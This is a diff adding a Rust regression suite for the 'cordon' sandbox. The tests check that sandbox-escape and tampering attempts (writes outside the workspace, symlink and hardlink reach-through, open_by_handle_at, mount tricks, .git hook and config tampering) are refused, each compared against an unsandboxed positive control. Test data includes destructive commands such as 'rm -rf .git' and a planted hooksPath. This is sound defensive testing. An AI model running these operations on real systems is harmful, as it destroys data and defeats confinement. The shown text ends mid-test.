@@ -1,0 +1,2106 @@
+//! cordon's security regression suite: one or more cases per threat-model bullet in
+//! docs/ (DESIGN.md "What the confined modes must stop"), plus the positive controls
+//! that keep a sandbox from passing by blocking everything.
+//!
+//! Every case is judged by EFFECT observed from outside the sandbox (a sentinel file
+//! unchanged, a listener that received nothing, a victim process still alive, a host
+//! object not created), plus the errno the probe saw inside where the contract names it.
+//! Where cheap, the same operation is also run directly on the host as the same
+//! identity (the positive control), proving that the refusal inside is cordon's doing.
+//!
+//! Run as root to exercise both root and an unprivileged uid (`CORDON_TEST_USER`,
+//! default `nobody`). `CORDON_MUST_ENFORCE=1` turns every skip into a failure.
+//! See docs/testing.md.
+#![cfg(target_os = "linux")]
+
+mod common;
+
+use common::*;
+use std::collections::BTreeMap;
+use std::fs;
+use std::os::unix::fs::MetadataExt;
+use std::path::{Path, PathBuf};
+use std::time::{Duration, SystemTime};
+
+/// One `#[test]` that runs its body once per identity (see `each_identity`).
+macro_rules! case {
+    ($name:ident, |$c:ident| $body:block) => {
+        #[test]
+        fn $name() {
+            each_identity(stringify!($name), |$c: &Ctx| -> Result<(), Skip> {
+                $body
+                #[allow(unreachable_code)]
+                Ok(())
+            });
+        }
+    };
+}
+
+/// Like `case!`, but only as the unprivileged uid (needs the suite to run as root).
+macro_rules! unpriv_case {
+    ($name:ident, |$c:ident| $body:block) => {
+        #[test]
+        fn $name() {
+            unprivileged_only(stringify!($name), |$c: &Ctx| -> Result<(), Skip> {
+                $body
+                #[allow(unreachable_code)]
+                Ok(())
+            });
+        }
+    };
+}
+
+/// Pseudo-mode: run the probe directly on the host (the positive control).
+const HOST: &str = "host";
+const BOTH_AND_HOST: [&str; 3] = [READ_ONLY, WORKSPACE_WRITE, HOST];
+
+fn s(p: &Path) -> &str {
+    p.to_str().unwrap()
+}
+
+/// Runs OP under cordon in `how`, or directly on the host when `how` is HOST.
+fn attempt(c: &Ctx, how: &str, op: &str, args: &[&str]) -> Result<ProbeResult, Skip> {
+    if how == HOST {
+        Ok(c.host_probe(op, args))
+    } else {
+        c.probe(how, op, args)
+    }
+}
+
+/// For the HOST pseudo-mode asserts the operation worked and returns true.
+#[track_caller]
+fn is_control(how: &str, r: &ProbeResult, what: &str) -> bool {
+    if how == HOST {
+        r.assert_ok(&format!("positive control (no sandbox): {what}"));
+        true
+    } else {
+        false
+    }
+}
+
+/// Per-mode fixture directories: `ws/<tag>` inside the workspace, `outside/<tag>` not.
+struct Fx {
+    ws: PathBuf,
+    out: PathBuf,
+}
+
+fn fx(c: &Ctx, tag: &str) -> Fx {
+    let f = Fx { ws: c.ws.join(tag), out: c.outside.join(tag) };
+    c.mkdir(&f.ws);
+    c.mkdir(&f.out);
+    f
+}
+
+fn opts_at(c: &Ctx, mode: &str, cwd: &Path) -> RunOpts {
+    RunOpts { cwd: Some(cwd.to_path_buf()), ..c.opts(mode) }
+}
+
+/// Every file and directory below `dir`: path -> (inode, content).
+fn tree(dir: &Path) -> BTreeMap<PathBuf, (u64, Vec<u8>)> {
+    let mut m = BTreeMap::new();
+    fn walk(d: &Path, m: &mut BTreeMap<PathBuf, (u64, Vec<u8>)>) {
+        let md = fs::symlink_metadata(d).unwrap();
+        m.insert(d.to_path_buf(), (md.ino(), vec![]));
+        for e in fs::read_dir(d).unwrap().flatten() {
+            let p = e.path();
+            let md = fs::symlink_metadata(&p).unwrap();
+            if md.is_dir() {
+                walk(&p, m);
+            } else {
+                m.insert(p.clone(), (md.ino(), fs::read(&p).unwrap_or_default()));
+            }
+        }
+    }
+    walk(dir, &mut m);
+    m
+}
+
+#[track_caller]
+fn assert_tree_unchanged(before: &BTreeMap<PathBuf, (u64, Vec<u8>)>, dir: &Path, why: &str) {
+    assert!(dir.is_dir(), "{why}: {} is no longer a directory", dir.display());
+    let after = tree(dir);
+    if &after != before {
+        let gone: Vec<_> = before.keys().filter(|k| !after.contains_key(*k)).collect();
+        let new: Vec<_> = after.keys().filter(|k| !before.contains_key(*k)).collect();
+        let changed: Vec<_> =
+            before.iter().filter(|(k, v)| after.get(*k).is_some_and(|a| a != *v)).map(|x| x.0).collect();
+        panic!("{why}: {} changed; removed {gone:?}, added {new:?}, modified {changed:?}", dir.display());
+    }
+}
+
+/// A git repository (one commit) at `ws/<tag>`, made on the host by the identity.
+fn git_ws(c: &Ctx, tag: &str) -> PathBuf {
+    let dir = c.ws.join(tag);
+    c.mkdir(&dir);
+    c.file(&dir.join("README"), "hello\n");
+    c.host_sh(&format!(
+        "cd '{}' && git init -q -b main . && git add README && git commit -q -m 'initial commit'",
+        dir.display()
+    ));
+    dir
+}
+
+// =====================================================================================
+// 0. Harness and contract sanity: if these fail, nothing below means much.
+// =====================================================================================
+
+case!(sanity_probe_runs_under_cordon, |c| {
+    for mode in CONFINED {
+        c.probe(mode, "true", &[])?.assert_ok("the probe must be able to run inside the sandbox");
+    }
+});
+
+case!(sanity_json_and_exit_status_mirror_command, |c| {
+    let out = c.sh(&c.opts(WORKSPACE_WRITE), "echo to-stdout; echo to-stderr >&2; exit 3")?;
+    assert_eq!(out.status.code(), Some(3), "cordon's exit status must mirror the command: {out:?}");
+    assert_eq!(out.exit_code(), Some(3), "{out:?}");
+    assert!(out.out().contains("to-stdout"), "{out:?}");
+    assert!(out.err().contains("to-stderr"), "{out:?}");
+    let j = out.j();
+    for k in ["exit_code", "signal", "timed_out", "aborted", "timeout_ms", "stdout", "stderr", "sandbox"] {
+        assert!(j.get(k).is_some(), "run result lacks `{k}`: {out:?}");
+    }
+    for k in ["mode", "runner", "denied", "denials", "enforcement", "runner_failed"] {
+        assert!(j["sandbox"].get(k).is_some(), "sandbox facts lack `{k}`: {out:?}");
+    }
+    assert!(j["sandbox"]["enforcement"]["gaps"].is_array(), "enforcement.gaps must be a list: {out:?}");
+});
+
+case!(sanity_confined_modes_report_mode_and_a_real_runner, |c| {
+    for mode in CONFINED {
+        let out = c.cordon(&c.opts(mode), &["/bin/true"])?;
+        out.assert_success();
+        let sb = &out.j()["sandbox"];
+        assert_eq!(sb["mode"].as_str(), Some(mode), "applied mode must be the requested one: {out:?}");
+        let runner = sb["runner"].as_str().unwrap_or("");
+        assert!(
+            !runner.is_empty() && runner != "passthrough",
+            "a confined mode ran under runner {runner:?}: {out:?}"
+        );
+        assert_eq!(sb["runner_failed"].as_bool(), Some(false), "{out:?}");
+    }
+});
+
+case!(sanity_passthrough_is_refused_for_confined_modes, |c| {
+    // `passthrough` confines nothing; asking for it with a confined mode must not run
+    // the command at all (fail closed), whatever the error shape.
+    let marker = c.outside.join("passthrough-ran");
+    let mut o = c.opts(WORKSPACE_WRITE);
+    o.runner = Some("passthrough".into());
+    o.expect_error = true;
+    let out = c.cordon(&o, &[s(&c.suite.probe), "create", s(&marker)])?;
+    assert_absent(&marker, "passthrough with workspace-write ran the command unconfined");
+    assert_ne!(out.status.code(), Some(0), "{out:?}");
+});
+
+case!(sanity_unavailable_runner_fails_closed, |c| {
+    // seatbelt cannot work on Linux: the typed error, exit 125, and nothing runs.
+    let marker = c.ws.join("seatbelt-ran");
+    let mut o = c.opts(WORKSPACE_WRITE);
+    o.runner = Some("seatbelt".into());
+    o.expect_error = true;
+    let out = c.cordon(&o, &[s(&c.suite.probe), "create", s(&marker)])?;
+    assert_absent(&marker, "an unavailable runner must not run the command");
+    assert_eq!(out.status.code(), Some(125), "{out:?}");
+    assert_eq!(
+        out.json.as_ref().and_then(|j| j["error"]["code"].as_str()),
+        Some("SANDBOX_UNAVAILABLE"),
+        "{out:?}"
+    );
+});
+
+// =====================================================================================
+// 1. File writes, creates, deletes, renames, links, truncation outside writable roots.
+// =====================================================================================
+
+case!(fs_overwrite_outside_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let sent = c.sentinel(&f.out.join("target"));
+        let r = attempt(c, how, "overwrite", &[s(&sent.path), "pwned\n"])?;
+        if is_control(how, &r, "overwrite") {
+            continue;
+        }
+        r.assert_refused_with(FS_DENIED, "overwrite a file outside the workspace");
+        sent.assert_unchanged("overwrite outside");
+    }
+});
+
+case!(fs_append_outside_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let sent = c.sentinel(&f.out.join("target"));
+        let r = attempt(c, how, "append", &[s(&sent.path), "pwned\n"])?;
+        if is_control(how, &r, "append") {
+            continue;
+        }
+        r.assert_refused_with(FS_DENIED, "append to a file outside the workspace");
+        sent.assert_unchanged("append outside");
+    }
+});
+
+case!(fs_create_outside_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let target = f.out.join("created");
+        let r = attempt(c, how, "create", &[s(&target)])?;
+        if is_control(how, &r, "create") {
+            continue;
+        }
+        r.assert_refused_with(FS_DENIED, "create a file outside the workspace");
+        assert_absent(&target, "create outside");
+    }
+});
+
+case!(fs_write_through_dotdot_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        // Relative to the workspace (the probe's cwd): ../outside/<tag>/dotdot
+        let rel = format!("../outside/{how}/dotdot");
+        let r = attempt(c, how, "write", &[&rel])?;
+        if is_control(how, &r, "write via ..") {
+            continue;
+        }
+        r.assert_refused_with(FS_DENIED, "write outside through `..`");
+        assert_absent(&f.out.join("dotdot"), "write via ..");
+    }
+});
+
+case!(fs_system_paths_read_only, |c| {
+    let tag = c.unique();
+    for mode in CONFINED {
+        for dir in ["/etc", "/usr/local", "/var/tmp"] {
+            let target = PathBuf::from(format!("{dir}/cordon-probe-{tag}-{mode}"));
+            let r = c.probe(mode, "create", &[s(&target)])?;
+            let existed = target.exists();
+            let _ = fs::remove_file(&target);
+            assert!(!existed, "created {} on the host", target.display());
+            r.assert_refused("create a file in a system directory");
+        }
+        // The suite's own directory (the probe binary lives there) is host, not workspace.
+        let probe_copy = c.suite.dir.join(format!("evil-{tag}-{mode}"));
+        c.probe(mode, "create", &[s(&probe_copy)])?.assert_refused("write next to the probe");
+        assert_absent(&probe_copy, "write next to the probe");
+        // (Not the probe binary itself: writing a running executable is ETXTBSY anyway.)
+        let p = Sentinel::record(&c.suite.dir.join("suite-sentinel"));
+        c.probe(mode, "overwrite", &[s(&p.path), "X"])?.assert_refused_with(FS_DENIED, "overwrite a file next to the probe");
+        p.assert_unchanged("overwrite a file next to the probe");
+    }
+});
+
+case!(fs_unlink_outside_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let sent = c.sentinel(&f.out.join("target"));
+        let r = attempt(c, how, "unlink", &[s(&sent.path)])?;
+        if is_control(how, &r, "unlink") {
+            continue;
+        }
+        r.assert_refused_with(FS_DENIED, "unlink a file outside the workspace");
+        sent.assert_unchanged("unlink outside");
+    }
+});
+
+case!(fs_rename_outside_file_into_workspace_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let sent = c.sentinel(&f.out.join("target"));
+        let dst = f.ws.join("stolen");
+        let r = attempt(c, how, "rename", &[s(&sent.path), s(&dst)])?;
+        if is_control(how, &r, "rename outside -> workspace") {
+            continue;
+        }
+        r.assert_refused_with(FS_DENIED, "rename a file from outside into the workspace");
+        sent.assert_unchanged("rename outside -> ws");
+        assert_absent(&dst, "rename outside -> ws");
+    }
+});
+
+case!(fs_rename_workspace_file_out_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let src = c.file(&f.ws.join("mine"), "workspace file\n");
+        let dst = f.out.join("dropped");
+        let r = attempt(c, how, "rename", &[s(&src), s(&dst)])?;
+        if is_control(how, &r, "rename workspace -> outside") {
+            continue;
+        }
+        r.assert_refused_with(FS_DENIED, "rename a workspace file to outside");
+        assert_absent(&dst, "rename ws -> outside");
+        assert!(src.exists(), "the workspace file vanished");
+    }
+});
+
+case!(fs_rename_exchange_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let sent = c.sentinel(&f.out.join("target"));
+        let mine = c.sentinel(&f.ws.join("mine"));
+        let r = attempt(c, how, "exchange", &[s(&mine.path), s(&sent.path)])?;
+        if is_control(how, &r, "renameat2(RENAME_EXCHANGE)") {
+            continue;
+        }
+        r.assert_refused_with(FS_DENIED, "RENAME_EXCHANGE of a workspace file with an outside file");
+        sent.assert_unchanged("rename-exchange");
+        mine.assert_unchanged("rename-exchange (workspace side)");
+    }
+});
+
+case!(fs_hardlink_outside_file_then_write_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let sent = c.sentinel(&f.out.join("target"));
+        let hl = f.ws.join("hardlink");
+        let r = attempt(c, how, "link-write", &[s(&sent.path), s(&hl), "pwned\n"])?;
+        if is_control(how, &r, "hardlink + write") {
+            continue;
+        }
+        r.assert_refused("hardlink an outside file into the workspace and write through it");
+        sent.assert_unchanged("hardlink reach-through");
+        assert_absent(&hl, "hardlink reach-through");
+    }
+});
+
+case!(fs_new_symlink_then_write_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let sent = c.sentinel(&f.out.join("target"));
+        let r = attempt(c, how, "symlink-write", &[s(&sent.path), s(&f.ws.join("sl")), "pwned\n"])?;
+        let newt = f.out.join("via-symlink-new");
+        let r2 = attempt(c, how, "symlink-write", &[s(&newt), s(&f.ws.join("sl2")), "pwned\n"])?;
+        if is_control(how, &r, "symlink + write") && is_control(how, &r2, "symlink + create") {
+            continue;
+        }
+        r.assert_refused_with(FS_DENIED, "write through a new symlink to an outside file");
+        sent.assert_unchanged("symlink reach-through");
+        r2.assert_refused_with(FS_DENIED, "create through a new symlink to outside");
+        assert_absent(&newt, "symlink create-through");
+    }
+});
+
+case!(fs_planted_symlink_write_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let sent = c.sentinel(&f.out.join("target"));
+        // Planted before the run: a directory link and a file link, both escaping.
+        c.symlink(&f.out, &f.ws.join("escape-dir"));
+        c.symlink(&sent.path, &f.ws.join("escape-file"));
+        let r1 = attempt(c, how, "create", &[s(&f.ws.join("escape-dir/new"))])?;
+        let r2 = attempt(c, how, "overwrite", &[s(&f.ws.join("escape-file")), "pwned\n"])?;
+        if is_control(how, &r1, "create via planted dir symlink")
+            && is_control(how, &r2, "write via planted file symlink")
+        {
+            continue;
+        }
+        r1.assert_refused_with(FS_DENIED, "create through a planted directory symlink");
+        assert_absent(&f.out.join("new"), "planted dir symlink");
+        r2.assert_refused_with(FS_DENIED, "write through a planted file symlink");
+        sent.assert_unchanged("planted file symlink");
+    }
+});
+
+case!(fs_truncation_outside_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        for (op, args) in [("truncate", vec!["0"]), ("ftruncate", vec!["0"]), ("open-trunc", vec![])] {
+            let sent = c.sentinel(&f.out.join(op));
+            let mut a = vec![s(&sent.path)];
+            a.extend(args);
+            let r = attempt(c, how, op, &a)?;
+            if is_control(how, &r, op) {
+                continue;
+            }
+            r.assert_refused_with(FS_DENIED, &format!("{op} of a file outside the workspace"));
+            sent.assert_unchanged(op);
+        }
+    }
+});
+
+case!(fs_mkdir_rmdir_outside_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let newd = f.out.join("newdir");
+        let oldd = f.out.join("olddir");
+        c.mkdir(&oldd);
+        let r1 = attempt(c, how, "mkdir", &[s(&newd)])?;
+        let r2 = attempt(c, how, "rmdir", &[s(&oldd)])?;
+        if is_control(how, &r1, "mkdir") && is_control(how, &r2, "rmdir") {
+            continue;
+        }
+        r1.assert_refused_with(FS_DENIED, "mkdir outside");
+        assert_absent(&newd, "mkdir outside");
+        r2.assert_refused_with(FS_DENIED, "rmdir outside");
+        assert!(oldd.is_dir(), "rmdir outside: directory removed");
+    }
+});
+
+case!(fs_tmpfile_linkat_outside_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        // O_TMPFILE in the workspace, then linkat() it into an outside directory.
+        let dest = f.out.join("from-tmpfile");
+        let r = attempt(c, how, "tmpfile-link", &[s(&f.ws), s(&dest)])?;
+        // O_TMPFILE directly in the outside directory, then linkat() there.
+        let dest2 = f.out.join("from-tmpfile-2");
+        let r2 = attempt(c, how, "tmpfile-link", &[s(&f.out), s(&dest2)])?;
+        if is_control(how, &r, "O_TMPFILE + linkat") && is_control(how, &r2, "O_TMPFILE outside + linkat") {
+            continue;
+        }
+        r.assert_refused("O_TMPFILE in the workspace linked to outside");
+        assert_absent(&dest, "O_TMPFILE + linkat");
+        r2.assert_refused("O_TMPFILE outside");
+        assert_absent(&dest2, "O_TMPFILE outside + linkat");
+    }
+});
+
+case!(fs_reopen_through_proc_fd_denied, |c| {
+    // open(O_RDONLY) is allowed outside; re-opening /proc/self/fd/N for writing must not be.
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let sent = c.sentinel(&f.out.join("target"));
+        let r = attempt(c, how, "reopen-write", &[s(&sent.path), "pwned\n"])?;
+        if is_control(how, &r, "reopen via /proc/self/fd") {
+            continue;
+        }
+        r.assert_refused_with(FS_DENIED, "re-open a read-only fd for writing via /proc/self/fd");
+        sent.assert_unchanged("reopen via /proc/self/fd");
+    }
+});
+
+case!(fs_link_via_o_path_fd_denied, |c| {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let sent = c.sentinel(&f.out.join("target"));
+        let dst = f.ws.join("fd-linked");
+        let r = attempt(c, how, "fdlink-write", &[s(&sent.path), s(&dst), "pwned\n"])?;
+        if is_control(how, &r, "link via O_PATH fd + write") {
+            continue;
+        }
+        r.assert_refused("link an outside file via its O_PATH fd and write through it");
+        sent.assert_unchanged("link via O_PATH fd");
+        assert_absent(&dst, "link via O_PATH fd");
+    }
+});
+
+case!(fs_open_by_handle_denied, |c| {
+    // open_by_handle_at opens by inode, bypassing path-based rules ("shocker").
+    for mode in CONFINED {
+        let f = fx(c, mode);
+        let sent = c.sentinel(&f.out.join("target"));
+        let r = c.probe(mode, "open-by-handle", &[s(&sent.path), "pwned\n"])?;
+        sent.assert_unchanged("open_by_handle_at");
+        r.assert_refused("open_by_handle_at(O_WRONLY) on an outside file");
+    }
+    if c.id.is_root() {
+        let f = fx(c, HOST);
+        let t = c.file(&f.out.join("target"), "x");
+        c.host_probe("open-by-handle", &[s(&t)]).assert_ok("control: open_by_handle_at as root on the host");
+    }
+});
+
+case!(fs_proc_sys_and_cgroupfs_read_only, |c| {
+    for mode in CONFINED {
+        require_confined(c, mode)?;
+        // Writing the current value back: harmless even if it got through.
+        let cp = fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
+        let r = c.probe(mode, "overwrite", &["/proc/sys/kernel/core_pattern", &cp])?;
+        r.assert_refused("write /proc/sys/kernel/core_pattern");
+        for base in ["/sys/fs/cgroup/pids", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/memory"] {
+            if !Path::new(base).is_dir() {
+                continue;
+            }
+            let d = PathBuf::from(format!("{base}/cordon-test-{}", c.unique()));
+            let r = c.probe(mode, "mkdir", &[s(&d)])?;
+            let existed = d.exists();
+            let _ = fs::remove_dir(&d);
+            assert!(!existed, "created cgroup {} from inside the sandbox\n{r:?}", d.display());
+            r.assert_refused("mkdir in cgroupfs");
+        }
+    }
+});
+
+case!(fs_read_only_mode_protects_workspace, |c| {
+    let sent = c.sentinel(&c.ws.join("file"));
+    let r = c.probe(READ_ONLY, "read", &[s(&sent.path)])?;
+    r.assert_ok("read-only mode must still read the workspace");
+    assert!(r.detail.contains("sentinel"), "{r:?}");
+    for (op, args) in [
+        ("overwrite", vec![s(&sent.path), "X"]),
+        ("append", vec![s(&sent.path), "X"]),
+        ("truncate", vec![s(&sent.path), "0"]),
+        ("unlink", vec![s(&sent.path)]),
+        ("chmod", vec![s(&sent.path), "0777"]),
+    ] {
+        c.probe(READ_ONLY, op, &args)?.assert_refused(&format!("read-only: {op} in the workspace"));
+        sent.assert_unchanged(&format!("read-only: {op}"));
+    }
+    let newf = c.ws.join("new");
+    c.probe(READ_ONLY, "create", &[s(&newf)])?.assert_refused("read-only: create in the workspace");
+    assert_absent(&newf, "read-only: create");
+    let newd = c.ws.join("newdir");
+    c.probe(READ_ONLY, "mkdir", &[s(&newd)])?.assert_refused("read-only: mkdir in the workspace");
+    assert_absent(&newd, "read-only: mkdir");
+});
+
+// =====================================================================================
+// 2. Metadata changes outside writable roots: chmod, chown, utimes, xattrs.
+// =====================================================================================
+
+fn metadata_case(c: &Ctx, op: &str, extra: &[&str]) -> Result<(), Skip> {
+    for how in BOTH_AND_HOST {
+        let f = fx(c, how);
+        let sent = c.sentinel(&f.out.join("target"));
+        let mut a = vec![s(&sent.path)];
+        a.extend_from_slice(extra);
+        let r = attempt(c, how, op, &a)?;
+        if how == HOST {
+            r.assert_ok(&format!("control: {op} on the host"));
+            // The observer must be able to see the change it is meant to catch.
+            assert!(
+                sent.check().is_err(),
+                "control: {op} on the host left no visible trace; the sentinel check is blind"
+            );
+            continue;
+        }
+        r.assert_refused_with(FS_DENIED, &format!("{op} of a file outside the workspace"));
+        sent.assert_unchanged(op);
+    }
+    Ok(())
+}
+
+case!(meta_chmod_outside_denied, |c| {
+    metadata_case(c, "chmod", &["0666"])?;
+});
+
+case!(meta_chown_outside_denied, |c| {
+    // root: give it away; unprivileged: a no-op chown to itself (allowed by DAC,
+    // still updates ctime, which the sentinel checks).
+    let (u, g) = if c.id.is_root() { (1234, 1234) } else { (c.id.uid, c.id.gid) };
+    metadata_case(c, "chown", &[&u.to_string(), &g.to_string()])?;
+});
+
+case!(meta_utimes_outside_denied, |c| {
+    metadata_case(c, "utimes", &[])?;
+});
+
+case!(meta_setxattr_outside_denied, |c| {
+    metadata_case(c, "setxattr", &["user.cordon", "pwned"])?;
+});
+
+// =====================================================================================
+// 3. Protected subpaths inside the workspace (.git).
+// =====================================================================================
+
+case!(git_write_inside_dotgit_denied, |c| {
+    let ws = git_ws(c, "repo");
+    let git = ws.join(".git");
+    let before = tree(&git);
+    let o = opts_at(c, WORKSPACE_WRITE, &ws);
+    let cases: Vec<(&str, Vec<PathBuf>)> = vec![
+        ("overwrite", vec![git.join("config")]),
+        ("append", vec![git.join("HEAD")]),
+        ("create", vec![git.join("hooks/pre-commit")]),
+        ("create", vec![git.join("hooks/post-checkout")]),
+        ("write", vec![git.join("index")]),
+        ("mkdir", vec![git.join("evil-dir")]),
+        ("unlink", vec![git.join("HEAD")]),
+        ("truncate", vec![git.join("config")]),
+        ("chmod", vec![git.join("config")]),
+        ("tmpfile-link", vec![ws.clone(), git.join("hooks/pre-push")]),
+    ];
+    for (op, paths) in cases {
+        let mut args: Vec<&str> = paths.iter().map(|p| s(p)).collect();
+        if op == "truncate" {
+            args.push("0");
+        }
+        if op == "chmod" {
+            args.push("0777");
+        }
+        c.probe_with(&o, op, &args)?.assert_refused(&format!("{op} inside .git"));
+        assert_tree_unchanged(&before, &git, &format!("{op} inside .git"));
+    }
+    // Relative spelling from the workspace, as a tool would write it.
+    c.mkdir(&ws.join("sub"));
+    c.probe_with(&o, "write", &[".git/hooks/pre-commit"])?.assert_refused("write .git/hooks/pre-commit (relative)");
+    c.probe_with(&o, "write", &["sub/../.git/config"])?.assert_refused("write .git/config via ..");
+    assert_tree_unchanged(&before, &git, "relative writes into .git");
+    // Control: the rest of the repository is writable.
+    c.probe_with(&o, "write", &[s(&ws.join("README")), "edited\n"])?.assert_ok("edit a tracked file");
+});
+
+case!(git_rename_and_delete_dotgit_denied, |c| {
+    let ws = git_ws(c, "repo");
+    let git = ws.join(".git");
+    let before = tree(&git);
+    let o = opts_at(c, WORKSPACE_WRITE, &ws);
+    c.probe_with(&o, "rename", &[s(&git), s(&ws.join("moved-git"))])?.assert_refused("rename .git");
+    assert_tree_unchanged(&before, &git, "rename .git");
+    assert_absent(&ws.join("moved-git"), "rename .git");
+    c.probe_with(&o, "rename", &[s(&git.join("HEAD")), s(&ws.join("HEAD"))])?
+        .assert_refused("move a file out of .git");
+    c.probe_with(&o, "rename", &[s(&git.join("refs")), s(&ws.join("refs"))])?
+        .assert_refused("move a directory out of .git");
+    assert_tree_unchanged(&before, &git, "move entries out of .git");
+    let out = c.sh(&o, "rm -rf .git; rm -rf .git/*; find .git -delete; true")?;
+    assert_tree_unchanged(&before, &git, &format!("rm -rf .git: {out:?}"));
+    c.probe_with(&o, "rmdir", &[s(&git.join("refs/tags"))])?.assert_refused("rmdir inside .git");
+    assert_tree_unchanged(&before, &git, "rmdir inside .git");
+});
+
+case!(git_replace_dotgit_denied, |c| {
+    let ws = git_ws(c, "repo");
+    let git = ws.join(".git");
+    let before = tree(&git);
+    let o = opts_at(c, WORKSPACE_WRITE, &ws);
+    // A fake .git prepared inside the workspace (by the command itself, here by the host).
+    let fake = ws.join("fake");
+    c.mkdir(&fake);
+    c.file(&fake.join("config"), "[core]\n\thooksPath = /tmp/evil\n");
+    c.probe_with(&o, "exchange", &[s(&fake), s(&git)])?.assert_refused("RENAME_EXCHANGE fake <-> .git");
+    assert_tree_unchanged(&before, &git, "exchange .git");
+    c.probe_with(&o, "rename", &[s(&fake.join("config")), s(&git.join("config"))])?
+        .assert_refused("rename a file over .git/config");
+    assert_tree_unchanged(&before, &git, "rename over .git/config");
+    let out = c.sh(&o, "mv .git .git-old && mkdir .git && cp -r fake/. .git/; true")?;
+    assert_tree_unchanged(&before, &git, &format!("mv .git away and recreate: {out:?}"));
+    assert_absent(&ws.join(".git-old"), "mv .git away");
+});
+
+case!(git_link_reach_through_denied, |c| {
+    let ws = git_ws(c, "repo");
+    let git = ws.join(".git");
+    let before = tree(&git);
+    let o = opts_at(c, WORKSPACE_WRITE, &ws);
+    // New links made by the command.
+    c.probe_with(&o, "symlink-write", &[s(&git.join("config")), s(&ws.join("cfg-sl")), "pwned\n"])?
+        .assert_refused("write .git/config through a new symlink");
+    c.probe_with(&o, "symlink-write", &[".git/hooks/post-checkout", s(&ws.join("hook-sl")), "pwned\n"])?
+        .assert_refused("create a hook through a new relative symlink");
+    c.probe_with(&o, "link-write", &[s(&git.join("config")), s(&ws.join("cfg-hl")), "pwned\n"])?
+        .assert_refused("write .git/config through a new hardlink");
+    c.probe_with(&o, "symlink-write", &[s(&git.join("hooks")), s(&ws.join("hooks-dir-sl")), "x"])?;
+    c.probe_with(&o, "create", &[s(&ws.join("hooks-dir-sl/pre-commit"))])?
+        .assert_refused("create a hook through a symlink to .git/hooks");
+    assert_tree_unchanged(&before, &git, "new links into .git");
+    // Links planted in the repository before the run (a cloned repo can carry them).
+    c.symlink(&git.join("config"), &ws.join("planted-cfg"));
+    c.symlink(&git, &ws.join("planted-gitdir"));
+    c.probe_with(&o, "overwrite", &[s(&ws.join("planted-cfg")), "pwned\n"])?
+        .assert_refused("write through a planted symlink to .git/config");
+    c.probe_with(&o, "create", &[s(&ws.join("planted-gitdir/hooks/pre-commit"))])?
+        .assert_refused("create through a planted symlink to .git");
+    assert_tree_unchanged(&before, &git, "planted links into .git");
+});
+
+case!(git_metadata_in_dotgit_denied, |c| {
+    let ws = git_ws(c, "repo");
+    let git = ws.join(".git");
+    let o = opts_at(c, WORKSPACE_WRITE, &ws);
+    for (op, extra) in [("chmod", vec!["0777"]), ("utimes", vec![]), ("setxattr", vec!["user.cordon", "x"])] {
+        let sent = Sentinel::record(&git.join("config"));
+        let mut a = vec![s(&sent.path)];
+        a.extend(extra);
+        c.probe_with(&o, op, &a)?.assert_refused(&format!("{op} on .git/config"));
+        sent.assert_unchanged(&format!("{op} on .git/config"));
+    }
+    let d = Sentinel::record(&git);
+    c.probe_with(&o, "chmod", &[s(&git), "0777"])?.assert_refused("chmod .git");
+    d.assert_unchanged("chmod .git");
+});
+
+case!(git_pointer_file_target_protected, |c| {
+    // `.git` as a file (worktree/submodule style) pointing at a directory that is itself
+    // inside the workspace: the pointer target is protected too.
+    let ws = c.ws.join("linked");
+    c.mkdir(&ws);
+    c.file(&ws.join("README"), "hello\n");
+    let real = ws.join("realgit");
+    c.host_sh(&format!(
+        "cd '{}' && git init -q -b main --separate-git-dir='{}' . && git add README && git commit -q -m init",
+        ws.display(),
+        real.display()
+    ));
+    assert!(ws.join(".git").is_file(), ".git should be a pointer file");
+    let before = tree(&real);
+    let ptr = Sentinel::record(&ws.join(".git"));
+    let o = opts_at(c, WORKSPACE_WRITE, &ws);
+    c.probe_with(&o, "overwrite", &[s(&real.join("config")), "pwned\n"])?
+        .assert_refused("write the pointer target's config");
+    c.probe_with(&o, "create", &[s(&real.join("hooks/pre-commit"))])?
+        .assert_refused("create a hook in the pointer target");
+    c.probe_with(&o, "rename", &[s(&real), s(&ws.join("moved"))])?.assert_refused("rename the pointer target");
+    c.probe_with(&o, "overwrite", &[s(&ws.join(".git")), "gitdir: /tmp/evil\n"])?
+        .assert_refused("rewrite the .git pointer file");
+    c.probe_with(&o, "unlink", &[s(&ws.join(".git"))])?.assert_refused("delete the .git pointer file");
+    assert_tree_unchanged(&before, &real, "pointer target");
+    ptr.assert_unchanged(".git pointer file");
+});
+
+case!(git_mount_tricks_do_not_unprotect, |c| {
+    let ws = git_ws(c, "repo");
+    let git = ws.join(".git");
+    let before = tree(&git);
+    let o = opts_at(c, WORKSPACE_WRITE, &ws);
+    require_confined(c, WORKSPACE_WRITE)?;
+    c.probe_with(&o, "umount-write", &[s(&git), s(&git.join("config"))])?
+        .assert_refused("umount .git then write");
+    c.probe_with(&o, "remount-write", &[s(&git), s(&git.join("config"))])?
+        .assert_refused("remount .git rw then write");
+    assert_tree_unchanged(&before, &git, "mount tricks on .git");
+});
+
+case!(git_protected_when_workspace_reached_through_symlink, |c| {
+    let ws = git_ws(c, "repo");
+    let link = c.root.join("repo-link");
+    c.symlink(&ws, &link);
+    let git = ws.join(".git");
+    let before = tree(&git);
